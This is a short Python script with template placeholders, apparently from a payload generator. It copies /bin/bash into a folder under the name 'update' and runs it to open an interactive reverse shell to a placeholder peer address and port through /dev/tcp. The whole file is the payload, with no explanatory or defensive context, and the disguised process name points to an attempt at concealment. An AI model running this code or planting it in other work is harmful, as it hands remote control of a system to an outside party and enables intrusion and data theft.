import os, shutil, subprocess
os.makedirs("@FOLDER@", exist_ok=True)
path = "@FOLDER@/update"
shutil.copy("/bin/bash", path)
subprocess.run([path, "-c", path + " -i >& /dev/tcp/@PEER@/@PORT@ 0>&1"])
